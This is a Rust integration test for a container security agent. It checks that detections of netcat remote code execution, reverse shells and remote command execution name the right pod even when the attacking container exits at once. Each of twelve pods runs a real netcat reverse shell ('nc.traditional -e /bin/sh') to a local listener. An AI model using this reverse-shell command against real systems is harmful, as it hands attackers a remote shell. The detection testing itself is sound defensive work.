//! Privileged: pods whose very first process is the attack and exits at once, many times, while
//! `shrike run` lags behind so that each process, container and cgroup is gone when it reads the
//! events. Every finding must name its pod. (Its own test binary: test binaries
//! run one after another, and an agent sees every pod on the node, also another test's.)

#[path = "common/agent.rs"]
mod agent;
mod common;
#[path = "common/containerd.rs"]
mod containerd;

use std::{
    collections::BTreeSet,
    path::Path,
    time::{Duration, Instant},
};

use agent::{listen, start_agent};
use common::privileged;
use containerd::{Containerd, PodSpec};
use serde_json::Value;

const NETCAT: &str = "Execution: Netcat Remote Code Execution In Container";
const RCE: &str = "Execution: Possible Remote Command Execution Detected";
const REVERSE_SHELL: &str = "Reverse Shell";

fn categories(findings: &[&Value]) -> BTreeSet<String> {
    findings.iter().filter_map(|f| f["finding"]["category"].as_str()).map(str::to_string).collect()
}

fn set(items: &[&str]) -> BTreeSet<String> {
    items.iter().map(|s| s.to_string()).collect()
}

/// Pods whose very first process is the attack and exits at once, taking its container and
/// cgroup with it before the agent can look in `/proc` or the cgroup tree: the container and pod
/// still come from the kernel's record of the cgroup's creation. Every finding names its pod.
#[tokio::test(flavor = "current_thread")]
async fn first_processes_of_pods_that_exit_at_once_name_their_pod() {
    if !privileged("first_processes_of_pods_that_exit_at_once_name_their_pod") {
        return;
    }
    const PODS: usize = 12;
    let ctrd = Containerd::start();
    let dir = ctrd.dir.join("fresh");
    std::fs::create_dir_all(&dir).unwrap();
    let agent = start_agent(&dir, "fresh", &ctrd.socket, false);
    // The agent falls behind, as under an exec storm (stopped, by its pid): by the time it reads
    // the events, every attacking process, its container and its cgroup are gone.
    // SAFETY: signalling the agent we started, by its pid.
    unsafe { libc::kill(agent.pid as i32, libc::SIGSTOP) };
    let mut pods = Vec::new();
    for i in 0..PODS {
        let l = listen("id; exit\n");
        let name = format!("fresh-{i}");
        let port = l.port.to_string();
        let pod = ctrd.run_pod(&PodSpec::new(&name, &["/usr/bin/nc.traditional", "-e", "/bin/sh", "127.0.0.1", &port])).await;
        let got = l.thread.join().unwrap();
        assert!(got.contains("uid="), "{name}: the attack did not really work; listener got {got:?}");
        pods.push(pod);
    }
    let deadline = Instant::now() + Duration::from_secs(20);
    for pod in &pods {
        let cgroup = Path::new("/sys/fs/cgroup").join(pod.spec.container_cgroup(&pod.container_id).trim_start_matches('/'));
        while cgroup.exists() && Instant::now() < deadline {
            tokio::time::sleep(Duration::from_millis(100)).await;
        }
        assert!(!cgroup.exists(), "{}: the container's cgroup is still there", pod.spec.name);
    }
    // SAFETY: as above.
    unsafe { libc::kill(agent.pid as i32, libc::SIGCONT) };
    // Each pod raises netcat RCE, a reverse shell and remote command execution.
    let deadline = Instant::now() + Duration::from_secs(20);
    while agent.findings().iter().filter(|f| f["finding"]["category"] == NETCAT).count() < PODS && Instant::now() < deadline {
        tokio::time::sleep(Duration::from_millis(200)).await;
    }
    let (findings, log) = agent.stop();
    let unattributed: Vec<&Value> = findings.iter().filter(|f| f["finding"]["sourceProperties"].get("Pod_Name").is_none()).collect();
    assert!(unattributed.is_empty(), "findings without their pod: {unattributed:#?}\n\nlog:\n{log}");
    let mut failures = Vec::new();
    for i in 0..PODS {
        let name = format!("fresh-{i}");
        let own: Vec<&Value> = findings.iter().filter(|f| f["finding"]["sourceProperties"]["Pod_Name"] == name.as_str()).collect();
        let got = categories(&own);
        if got != set(&[NETCAT, REVERSE_SHELL, RCE]) {
            failures.push(format!("{name}: {got:?}"));
        }
    }
    assert!(failures.is_empty(), "{}\n\nlog:\n{log}", failures.join("\n"));
    for pod in &pods {
        ctrd.remove_pod(pod).await;
    }
    ctrd.stop();
}
